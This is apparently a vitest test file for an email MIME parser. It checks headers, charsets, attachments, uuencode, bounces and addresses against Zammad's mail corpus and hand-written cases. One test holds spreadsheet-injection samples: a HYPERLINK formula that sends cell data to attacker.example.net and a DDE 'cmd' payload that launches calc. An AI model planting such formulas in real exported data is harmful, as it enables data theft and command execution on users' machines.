import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { convert } from 'html-to-text';
import { describe, expect, it } from 'vitest';
import {
  MailParseError,
  addressOf,
  extractMessageIds,
  parseAddressList,
  parseMessage,
} from '../src/core/mime';
import type { ParsedMessage } from '../src/core/types';
import { hasShared, sharedMissingNote, sharedPath } from './shared';

function md5(bytes: Uint8Array | string): string {
  return createHash('md5').update(bytes).digest('hex');
}

/** Computes the MD5 of content as it is, and with CR LF written as LF. */
function md5Forms(content: Uint8Array): string[] {
  const withLineFeeds = Buffer.from(Buffer.from(content).toString('latin1').replace(/\r\n/g, '\n'), 'latin1');
  return [md5(content), md5(withLineFeeds)];
}

function normaliseSpace(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}

function emailSet(addresses: { email: string }[]): string[] {
  return [...new Set(addresses.map((address) => address.email))].sort();
}

/** Email addresses in one of Zammad's display strings, such as `Name <a@example.com>, b@example.com`. */
function expectedEmails(display: string | null | undefined): string[] {
  return emailSet(parseAddressList(display ?? '').filter((address) => address.email.includes('@')));
}

/**
 * Renders the visible text of an HTML document, with the <title> (Zammad's body starts with it)
 * and with text a mailer left after </html>, which a browser shows.
 */
function htmlText(html: string): string {
  const unclosed = html.replace(/<\/(?:body|html)\s*>/gi, '');
  return convert(unclosed, { wordwrap: false, baseElements: { selectors: ['html', 'body'] } });
}

/** Up to `count` distinct words of four or more letters or digits, spread over the text. */
function sampleWords(text: string, count: number): string[] {
  const words = [...new Set(text.split(/[^\p{L}\p{N}]+/u).filter((word) => word.length >= 4))];
  if (words.length <= count) return words;
  const step = words.length / count;
  return Array.from({ length: count }, (_, index) => words[Math.floor(index * step)] as string);
}

// ---------------------------------------------------------------------------------------------
// Real mail from Zammad's parser tests

interface ZammadAttachment {
  filename: string;
  md5: string;
  preferences?: Record<string, unknown>;
}

interface ZammadExpectation {
  from_email: string;
  from_display_name: string;
  to?: string | null;
  cc?: string | null;
  'reply-to'?: string | null;
  subject: string | null;
  content_type: string;
  body?: string;
  attachments?: ZammadAttachment[];
}

/**
 * Messages where Zammad's expected value comes from a fault of its own parser. The test asserts
 * plusdesk's value, which `reason` explains, instead of Zammad's.
 */
interface Deviation {
  reason: string;
  expected?: Partial<ZammadExpectation>;
  /** Replaces the body comparison. */
  checkBody?: (message: ParsedMessage) => void;
}

const ZAMMAD_DEVIATIONS: Record<string, Deviation> = {
  'mail035.box': {
    reason: 'From: "finances8@..." is a quoted address; Zammad keeps the quotes in the email',
    expected: { from_email: 'finances8@firstfinanceloanfirm.example.com' },
  },
  'mail046.box': {
    reason:
      'the raw 8-bit From name is GB2312 like the subject, which Zammad decodes as GB2312 too. ' +
      'Its name ÎäŔźłÉ is a charset guess gone wrong',
    expected: { from_display_name: '武兰成' },
  },
  'mail065.box': {
    reason: 'Zammad splits the encoded word =?iso-8859-1?Q?B=FCrling,=20Andreas?= at its comma',
    expected: { from_display_name: 'Bürling, Andreas' },
  },
  'mail072.box': {
    reason: 'byte 0xFB is û in windows-1258; Zammad renders it as ű',
    checkBody: (message) => {
      expect(message.text).toContain('commande du 14 août 2018');
    },
  },
  'mail025.box': {
    reason: 'the body is a uuencoded file, which plusdesk extracts as an attachment; Zammad keeps it as text',
    checkBody: (message) => {
      const file = message.attachments.find((attachment) => attachment.filename === 'rulesets-report.csv');
      expect(file, 'uuencoded attachment').toBeDefined();
      expect(new TextDecoder().decode(file?.content)).toMatch(/^RULESET_ID;NAME;ACTIV;RUN_MODE;AUDIT_MODIFY_DATE\n/);
      expect(message.text).not.toContain('begin 644');
    },
  },
  'mail023.box': {
    // NOTE: a known gap, not a fault of Zammad's. Zammad guesses the charset from the bytes;
    // plusdesk has no charset detector and reads undeclared non-UTF-8 text as windows-1252.
    reason: 'the body is GB2312 without a charset label; plusdesk decodes it as windows-1252 and warns',
    checkBody: (message) => {
      expect(message.warnings).toContain(
        'a text/plain part declares no charset and is not UTF-8; decoded as windows-1252',
      );
      expect(message.text).toContain('Message-ID: <20140911055224675615@nthcpghana.com>');
    },
  },
};

/** Zammad's body for a message without any text. */
const ZAMMAD_EMPTY_BODY = 'no visible content';

const zammadDir = sharedPath('corpus', 'zammad');
const zammadFiles = hasShared ? readdirSync(zammadDir).filter((name) => name.endsWith('.box')).sort() : [];
const zammadExpected: Record<string, ZammadExpectation> = hasShared
  ? JSON.parse(readFileSync(sharedPath('corpus', 'zammad', 'expected.json'), 'utf8')).emails
  : {};

function checkZammadBody(message: ParsedMessage, expected: ZammadExpectation): void {
  const body = expected.body ?? '';
  if (body === ZAMMAD_EMPTY_BODY) {
    expect(message.text.trim(), 'text of a message without text').toBe('');
    return;
  }

  if (expected.content_type === 'text/plain') {
    const wanted = normaliseSpace(body).slice(0, 300);
    expect(normaliseSpace(message.text), 'text/plain body').toContain(wanted);
    return;
  }

  // An HTML body: its words appear in the text, or in the HTML part where the text/plain
  // alternative differs from it (as in spam and anonymised samples).
  expect(message.text.trim(), 'text of an HTML message').not.toBe('');
  const mine = `${message.text}\n${htmlText(message.html)}`;
  const missing = sampleWords(htmlText(body), 20).filter((word) => !mine.includes(word));
  expect(missing, 'words of the HTML body missing from text and html').toEqual([]);
}

describe('zammad corpus', () => {
  if (!hasShared) {
    it.skip(sharedMissingNote, () => {});
    return;
  }

  it.each(zammadFiles)('%s parses like Zammad', async (file) => {
    const original = zammadExpected[file];
    expect(original, `expected.json has an entry for ${file}`).toBeDefined();
    if (!original) return;
    const deviation = ZAMMAD_DEVIATIONS[file];
    const expected: ZammadExpectation = { ...original, ...deviation?.expected };

    const message = await parseMessage(readFileSync(sharedPath('corpus', 'zammad', file)));

    expect(message.from?.email ?? '', 'from_email').toBe(expected.from_email);
    expect(message.from?.name ?? '', 'from_display_name').toBe(expected.from_display_name);
    expect(emailSet(message.to), 'to').toEqual(expectedEmails(expected.to));
    if ('cc' in expected) expect(emailSet(message.cc), 'cc').toEqual(expectedEmails(expected.cc));
    if ('reply-to' in expected) {
      expect(emailSet(message.replyTo), 'reply-to').toEqual(expectedEmails(expected['reply-to']));
    }
    expect(message.subject, 'subject').toBe(expected.subject ?? '');

    // Zammad keeps parts sent as 7bit with LF line breaks; plusdesk keeps the CR LF of the
    // wire form. Both spellings of each attachment are compared.
    const mine = new Set(message.attachments.flatMap((attachment) => md5Forms(attachment.content)));
    const wanted = (expected.attachments ?? []).filter(
      (attachment) => !attachment.preferences?.['content-alternative'],
    );
    for (const attachment of wanted) {
      expect(mine.has(attachment.md5), `attachment ${attachment.filename} (md5 ${attachment.md5})`).toBe(true);
    }

    if (deviation?.checkBody) {
      deviation.checkBody(message);
    } else {
      checkZammadBody(message, expected);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Hand-written cases from real bug reports

const POLISH_TEXT = 'Dzień dobry,\nzamówienie nr 1182 nie dotarło.\nTest znaków: Zażółć gęślą jaźń.';

function readCase(name: string): Buffer {
  return readFileSync(sharedPath('cases', name));
}

describe('bug report cases', () => {
  if (!hasShared) {
    it.skip(sharedMissingNote, () => {});
    return;
  }

  it('joins B and Q encoded words split mid-word', async () => {
    const message = await parseMessage(readCase('B13.eml'));
    expect(message.subject).toBe('Re: Rückfrage zur Lieferung 4471');
  });

  it('decodes iso-8859-2 subject and body', async () => {
    const message = await parseMessage(readCase('B15.eml'));
    expect(message.subject).toBe('Reklamacja zamówienia 1182');
    expect(message.text).toBe(POLISH_TEXT);
    expect(message.warnings).toEqual([]);
  });

  it('keeps inline image without Content-Disposition', async () => {
    const message = await parseMessage(readCase('B16.eml'));
    const image = message.attachments.find((attachment) => attachment.contentId === 'image001.png@01DB9A00.5C3E1F20');
    expect(image).toBeDefined();
    expect(image?.disposition).toBe('inline');
    expect(image?.mimeType).toBe('image/png');
    expect(image?.filename).toBe('image001.png');
    expect(image?.content.length).toBe(69);
    expect(md5(image?.content ?? new Uint8Array())).toBe('ee76702403cd15dbc71587365494cbe5');
    expect(message.html).toContain('cid:image001.png@01DB9A00.5C3E1F20');
  });

  it('keeps delivery report parts of a bounce', async () => {
    const message = await parseMessage(readCase('B02.eml'));
    expect(message.contentType).toBe('multipart/report');
    expect(message.from?.email).toBe('MAILER-DAEMON@mx.example.net');
    expect(message.text).toContain('550 5.1.1');

    const status = message.attachments.find((attachment) => attachment.mimeType === 'message/delivery-status');
    const statusText = new TextDecoder().decode(status?.content);
    expect(statusText).toContain('Final-Recipient: rfc822; ines.moreau@example.net');
    expect(statusText).toMatch(/^Status: 5\.1\.1\r?$/m);

    const returned = message.attachments.find((attachment) => attachment.mimeType === 'text/rfc822-headers');
    const returnedText = new TextDecoder().decode(returned?.content);
    const messageIdLine = /^Message-ID:(.*)$/im.exec(returnedText)?.[1] ?? '';
    expect(extractMessageIds(messageIdLine)).toEqual(['t40.r1@example.com']);
  });

  it('keeps formula-like name, subject and text', async () => {
    const message = await parseMessage(readCase('B20.eml'));
    expect(message.from).toEqual({ name: '-2+3', email: 'quiz@example.net' });
    expect(message.subject).toBe('=HYPERLINK("http://attacker.example.net/?d="&A1,"Open invoice")');
    expect(message.text.startsWith("@SUM(1+1)*cmd|' /C calc'!A0\n")).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// Hostile and broken input

describe('unreadable input', () => {
  it.each([
    ['an empty string', ''],
    ['empty bytes', new Uint8Array(0)],
    ['only line breaks', '\r\n\r\n  \n'],
    ['text without headers', 'Hello,\nthis is not a message.\n'],
    ['UTF-16 text', new Uint8Array([0x46, 0, 0x72, 0, 0x6f, 0, 0x6d, 0, 0x3a, 0, 0x20, 0])],
    ['a PNG file', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])],
  ])('rejects %s with MailParseError', async (_, input) => {
    const error = await parseMessage(input).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(MailParseError);
    expect((error as MailParseError).reason).not.toBe('');
  });
});

describe('parseMessage on arbitrary input', () => {
  it('resolves or raises MailParseError', async () => {
    const header = fc.constantFrom('From: a@example.org\r\n', 'Content-Type: multipart/mixed; boundary=b\r\n', '');
    const chunk = fc.oneof(
      fc.uint8Array({ maxLength: 200 }),
      fc.constantFrom('\r\n', '\n', '--b\r\n', '=?utf-8?B?', '?=', '"', '<', '('),
      fc.constant('Content-Transfer-Encoding: base64\r\n'),
    );
    await fc.assert(
      fc.asyncProperty(header, fc.array(chunk, { maxLength: 20 }), async (start, chunks) => {
        const raw = Buffer.concat([Buffer.from(start), ...chunks.map((item) => Buffer.from(item))]);
        const error = await parseMessage(raw).then(
          () => null,
          (caught: unknown) => caught,
        );
        expect(error === null || error instanceof MailParseError).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('raises MailParseError past the nesting limit', async () => {
    const depth = 300;
    const opening = Array.from(
      { length: depth },
      (_, level) => `Content-Type: multipart/mixed; boundary=b${level}\r\n\r\n--b${level}\r\n`,
    );
    const raw = `From: a@example.org\r\n${opening.join('')}Content-Type: text/plain\r\n\r\ndeep\r\n`;
    const error = await parseMessage(raw).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(MailParseError);
    expect((error as MailParseError).reason).toContain('nesting depth');
  });
});

describe('parseMessage', () => {
  it('parses a header-only message', async () => {
    const message = await parseMessage('From: Ann <ann@example.org>\r\nSubject: Only headers\r\n');
    expect(message.from).toEqual({ name: 'Ann', email: 'ann@example.org' });
    expect(message.subject).toBe('Only headers');
    expect(message.text).toBe('');
    expect(message.html).toBe('');
    expect(message.attachments).toEqual([]);
    expect(message.contentType).toBe('text/plain');
  });

  it('decodes an unknown charset with a warning', async () => {
    const raw = Buffer.concat([
      Buffer.from(
        'From: a@example.org\r\nSubject: =?x-unknown-charset?Q?Caf=E9?=\r\n' +
          'Content-Type: text/plain; charset=x-unknown-charset\r\n\r\n',
      ),
      Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x0d, 0x0a]),
    ]);
    const message = await parseMessage(raw);
    expect(message.text).toBe('Café');
    expect(message.subject).toBe('Café');
    expect(message.warnings).toContain(
      'unknown charset "x-unknown-charset" in a text/plain part; decoded as UTF-8 or windows-1252',
    );
    expect(message.warnings).toContain(
      'unknown charset "x-unknown-charset" in the subject header; decoded as UTF-8 or windows-1252',
    );
  });

  it('decodes windows-1252 curly quotes and euro sign', async () => {
    const raw = Buffer.concat([
      Buffer.from('From: a@example.org\r\nSubject: =?windows-1252?Q?=93Offer=94?=\r\n'),
      Buffer.from('Content-Type: text/plain; charset=iso-8859-1\r\n\r\n'),
      Buffer.from([0x93, 0x68, 0x69, 0x94, 0x20, 0x80, 0x35]),
    ]);
    const message = await parseMessage(raw);
    expect(message.subject).toBe('\u201cOffer\u201d');
    expect(message.text).toBe('\u201chi\u201d \u20ac5');
  });

  it('reads a To header of 5,000 recipients', async () => {
    const recipients = Array.from({ length: 5000 }, (_, index) => `"Customer ${index}, Ltd" <c${index}@example.org>`);
    const raw = `From: a@example.org\r\nTo: ${recipients.join(',\r\n ')}\r\nSubject: many\r\n\r\nhi\r\n`;
    const message = await parseMessage(raw);
    expect(message.to).toHaveLength(5000);
    expect(message.to[0]).toEqual({ name: 'Customer 0, Ltd', email: 'c0@example.org' });
    expect(message.to[4999]).toEqual({ name: 'Customer 4999, Ltd', email: 'c4999@example.org' });
  });

  it('gives the same result for CRLF and LF input', async () => {
    const lines = [
      'From: =?utf-8?Q?J=C3=BCrgen?= <j@example.org>',
      'To: support@example.com',
      'Subject: =?utf-8?B?TGluZSBicmVha3M=?=',
      'Message-ID: <lb.1@example.org>',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: multipart/alternative; boundary="b2"',
      '',
      '--b2',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      'First line',
      'second line =C3=BC',
      '--b2',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>First line<br>second line</p>',
      '--b2--',
      '--b1',
      'Content-Type: text/plain; name="notes.txt"',
      'Content-Disposition: attachment; filename="notes.txt"',
      '',
      'one',
      'two',
      '--b1',
      'Content-Type: application/octet-stream; name="data.bin"',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      'AB=00',
      'CD',
      '--b1--',
      '',
    ];
    const withCrLf = await parseMessage(lines.join('\r\n'));
    const withLf = await parseMessage(lines.join('\n'));
    expect(withLf).toEqual(withCrLf);
    expect(withCrLf.text).toBe('First line\nsecond line ü');
    // A quoted-printable hard line break is CR LF (RFC 2045 6.7) whatever the input used.
    const data = withLf.attachments.find((attachment) => attachment.filename === 'data.bin');
    expect(Array.from(data?.content ?? [])).toEqual([0x41, 0x42, 0x00, 0x0d, 0x0a, 0x43, 0x44]);
  });

  it('fills identity and threading fields', async () => {
    const raw = [
      'Received: from a by b; Mon, 17 Mar 2025 10:00:00 +0000',
      'Received: from c',
      '  by d; Mon, 17 Mar 2025 10:00:01 +0000',
      'From: Ann <Ann.Smith@Example.org>',
      'Reply-To: Team: ann@example.org, "Bob, B." <bob@example.org>;',
      'To: support@example.com',
      'Cc: undisclosed-recipients:;',
      'Subject: Re: Order',
      'Date: Mon, 17 Mar 2025 11:00:00 +0100 (CET)',
      'Message-ID: <m2@example.org>',
      'In-Reply-To: your message of Monday <m1@example.org>',
      'References: <m0@example.org>,<m1@example.org>',
      ' <m0@example.org>',
      '',
      'Thanks',
      '',
    ].join('\r\n');

    const message = await parseMessage(raw);

    expect(message.from).toEqual({ name: 'Ann', email: 'Ann.Smith@Example.org' });
    expect(message.replyTo.map((address) => address.email)).toEqual(['ann@example.org', 'bob@example.org']);
    expect(message.cc).toEqual([]);
    expect(message.messageId).toBe('m2@example.org');
    expect(message.inReplyTo).toEqual(['m1@example.org']);
    expect(message.references).toEqual(['m0@example.org', 'm1@example.org']);
    expect(message.date).toBe('2025-03-17T10:00:00.000Z');
    expect(message.headers['received']).toEqual([
      'from a by b; Mon, 17 Mar 2025 10:00:00 +0000',
      'from c  by d; Mon, 17 Mar 2025 10:00:01 +0000',
    ]);
    expect(message.headers['subject']).toEqual(['Re: Order']);
    expect(message.warnings).toEqual([]);
  });

  it('leaves an invalid Date empty with a warning', async () => {
    const message = await parseMessage('From: a@example.org\r\nDate: sometime soon\r\n\r\nx\r\n');
    expect(message.date).toBe('');
    expect(message.warnings).toContain('invalid Date header "sometime soon"');
  });

  it('stores a header named __proto__ like any other', async () => {
    const message = await parseMessage('From: a@example.org\r\n__proto__: x\r\n\r\nx\r\n');
    expect(Object.prototype.hasOwnProperty.call(message.headers, '__proto__')).toBe(true);
    expect(message.headers['__proto__']).toEqual(['x']);
  });

  it('takes the first From with an address', async () => {
    const message = await parseMessage('From: [??????]\r\nFrom: "Name" <>, "Ltd" <ltd@example.org>\r\n\r\nx\r\n');
    expect(message.from).toEqual({ name: 'Ltd', email: 'ltd@example.org' });
  });

  it('falls back to Reply-To without a From address', async () => {
    const message = await parseMessage('From: "=?GB2312?B?ztI=?=" <>\r\nReply-To: <r@example.org>\r\n\r\nx\r\n');
    expect(message.from).toEqual({ name: '', email: 'r@example.org' });
    expect(message.warnings).toContain('From header has no address; used the Reply-To address');
  });

  it('repairs a header block with a banner and unfolded lines', async () => {
    const raw = [
      '---- Original message ----',
      'Received: from a',
      'by b with ESMTP',
      'Subject: Contact form',
      'From: web@example.org',
      '',
      'Body',
      '',
    ].join('\n');
    const message = await parseMessage(raw);
    expect(message.subject).toBe('Contact form');
    expect(message.from?.email).toBe('web@example.org');
    expect(message.headers['received']).toEqual(['from a by b with ESMTP']);
    expect(message.text).toBe('Body');
    expect(message.warnings).toContain('ignored 1 line(s) before the first header field');
    expect(message.warnings).toContain('joined 1 header line(s) that lacked folding whitespace');
  });

  it('skips an mbox From line', async () => {
    const message = await parseMessage('From a@example.org  Tue Oct 29 03:52:03 2013\nFrom: a@example.org\n\nx\n');
    expect(Object.keys(message.headers)).toEqual(['from']);
    expect(message.warnings).toEqual([]);
  });

  it('skips blank lines before the headers', async () => {
    const message = await parseMessage('\r\n\r\nFrom: a@example.org\r\nSubject: late start\r\n\r\nx\r\n');
    expect(message.subject).toBe('late start');
    expect(message.text).toBe('x');
    expect(message.warnings).toEqual(['ignored blank lines before the header block']);
  });

  it('decodes raw 8-bit headers in a declared charset', async () => {
    const raw = Buffer.concat([
      Buffer.from('From: "'),
      Buffer.from([0xd6, 0xd0, 0xce, 0xc4]),
      Buffer.from('" <zh@example.org>\r\nContent-Type: text/plain; charset=gb2312\r\n\r\nx\r\n'),
    ]);
    const message = await parseMessage(raw);
    expect(message.from).toEqual({ name: '中文', email: 'zh@example.org' });
    expect(message.warnings).toContain('decoded raw 8-bit header text as gbk');
  });

  it('renders an HTML-only body as text', async () => {
    const raw = [
      'From: a@example.org',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<html><head><title>T</title><style>p { color: red }</style></head>',
      '<body><h1>Order status</h1><p>Hello &amp; welcome,<br>see <a href="https://example.org/o/1">your order</a>.</p>',
      '<img src="cid:x"></body></html>',
      '',
    ].join('\r\n');
    const message = await parseMessage(raw);
    expect(message.text).toBe('Order status\n\nHello & welcome,\nsee your order [https://example.org/o/1].');
    expect(message.html).toContain('<h1>Order status</h1>');
  });

  it('decodes an x-uuencode part', async () => {
    const raw = [
      'From: a@example.org',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'See attached.',
      '--b',
      'Content-Type: application/octet-stream; name="hello.txt"',
      'Content-Disposition: attachment; filename="hello.txt"',
      'Content-Transfer-Encoding: x-uuencode',
      '',
      'begin 644 hello.txt',
      ',2&5L;&\\@6F%M;6%D',
      '`',
      'end',
      '--b--',
      '',
    ].join('\r\n');
    const message = await parseMessage(raw);
    const file = message.attachments.find((attachment) => attachment.filename === 'hello.txt');
    expect(new TextDecoder().decode(file?.content)).toBe('Hello Zammad');
  });

  it('extracts a uuencoded block from the text', async () => {
    const uuencoded = 'begin 644 r.txt\r\n,2&5L;&\\@6F%M;6%D\r\n`\r\nend\r\n';
    const raw = `From: a@example.org\r\n\r\nReport attached.\r\n\r\n${uuencoded}`;
    const message = await parseMessage(raw);
    expect(message.text).toBe('Report attached.');
    expect(message.attachments.map((attachment) => attachment.filename)).toEqual(['r.txt']);
    expect(new TextDecoder().decode(message.attachments[0]?.content)).toBe('Hello Zammad');
  });

  it('keeps a forwarded message as an .eml attachment', async () => {
    const raw = [
      'From: a@example.org',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'Forwarding this.',
      '--b',
      'Content-Type: message/rfc822',
      '',
      'From: c@example.org',
      'Subject: Original: question?',
      '',
      'Original body',
      '--b--',
      '',
    ].join('\r\n');
    const message = await parseMessage(raw);
    expect(message.text).toBe('Forwarding this.');
    expect(message.attachments).toHaveLength(1);
    expect(message.attachments[0]?.filename).toBe('Original_ question_.eml');
    expect(message.attachments[0]?.mimeType).toBe('message/rfc822');
    expect(new TextDecoder().decode(message.attachments[0]?.content)).toContain('Original body');
  });

  it('keeps HTML parts after the first as attachments', async () => {
    const raw = [
      'From: a@example.org',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>before</p>',
      '--b',
      'Content-Type: image/png; name="a.png"',
      'Content-Disposition: attachment; filename="a.png"',
      'Content-Transfer-Encoding: base64',
      '',
      'iVBORw0KGgo=',
      '--b',
      'Content-Type: text/html; charset=iso-8859-1',
      '',
      '<p>after</p>',
      '--b--',
      '',
    ].join('\r\n');
    const message = await parseMessage(raw);
    expect(message.html).toContain('before');
    expect(message.html).toContain('after');
    expect(message.attachments.map((attachment) => attachment.filename)).toEqual(['a.png', 'document-1.html']);
    expect(new TextDecoder().decode(message.attachments[1]?.content)).toBe('<p>after</p>');
  });
});

// ---------------------------------------------------------------------------------------------
// Address and Message-ID helpers

describe('parseAddressList', () => {
  it.each([
    ['an empty angle address', '"Equipment " <>, "LTD" <ly@example.com>', [
      { name: 'Equipment', email: '' },
      { name: 'LTD', email: 'ly@example.com' },
    ]],
    ['a bare local part with a comment', 'MAILER-DAEMON (Mail Delivery System)', [
      { name: 'Mail Delivery System', email: 'MAILER-DAEMON' },
    ]],
    ['an address in a comment', '=?iso-8859-2?Q?Namedy=F1ski?= (hans@example.com)', [
      { name: 'Namedyński', email: 'hans@example.com' },
    ]],
    ['an encoded word holding a comma', '=?iso-8859-1?Q?B=FCrling,=20Andreas?= <smith@example.com>', [
      { name: 'Bürling, Andreas', email: 'smith@example.com' },
    ]],
    ['adjacent encoded words', '=?Windows-1252?Q?Hans_B=C4KO?= =?iso-8859-15?q?Sch=F6nland?= <me@bogen.net>', [
      { name: 'Hans BÄKOSchönland', email: 'me@bogen.net' },
    ]],
    ['a group', 'Team: a@example.com, "B, b" <b@example.com>;, c@example.com', [
      { name: '', email: 'a@example.com' },
      { name: 'B, b', email: 'b@example.com' },
      { name: '', email: 'c@example.com' },
    ]],
    ['an empty group', 'undisclosed-recipients:;', []],
    ['a quoted address', '"finances8@example.com"', [{ name: '', email: 'finances8@example.com' }]],
    ['an address with spaces', '"your past" <power quadrant system@example.com>', [
      { name: 'your past', email: 'power quadrant system@example.com' },
    ]],
    ['an address then a comment', 'John.Smith@example.com (John Smith)', [
      { name: 'John Smith', email: 'John.Smith@example.com' },
    ]],
    ['a domain literal', 'root@[IPv6:::1]', [{ name: '', email: 'root@[IPv6:::1]' }]],
    ['a source route', '<@relay.example:user@example.com>', [{ name: '', email: 'user@example.com' }]],
    ['a name without an address', '[??????]', [{ name: '[??????]', email: '' }]],
  ])('reads %s', (_, value, expected) => {
    expect(parseAddressList(value)).toEqual(expected);
  });
});

describe('addressOf', () => {
  it('returns the first mailbox with an address', () => {
    expect(addressOf('"X" <>, Y <y@example.org>')).toEqual({ name: 'Y', email: 'y@example.org' });
  });

  it('returns null without any address', () => {
    expect(addressOf('"X" <>')).toBeNull();
  });
});

describe('extractMessageIds', () => {
  it.each([
    ['text around the id', 'Your message of Monday <a@example.org> (sent)', ['a@example.org']],
    ['ids separated by commas', '<a@x>,<b@x>', ['a@x', 'b@x']],
    ['ids without brackets', 'a@x b@x, c@x', ['a@x', 'b@x', 'c@x']],
    ['nothing', '', []],
  ])('reads %s', (_, value, expected) => {
    expect(extractMessageIds(value)).toEqual(expected);
  });
});
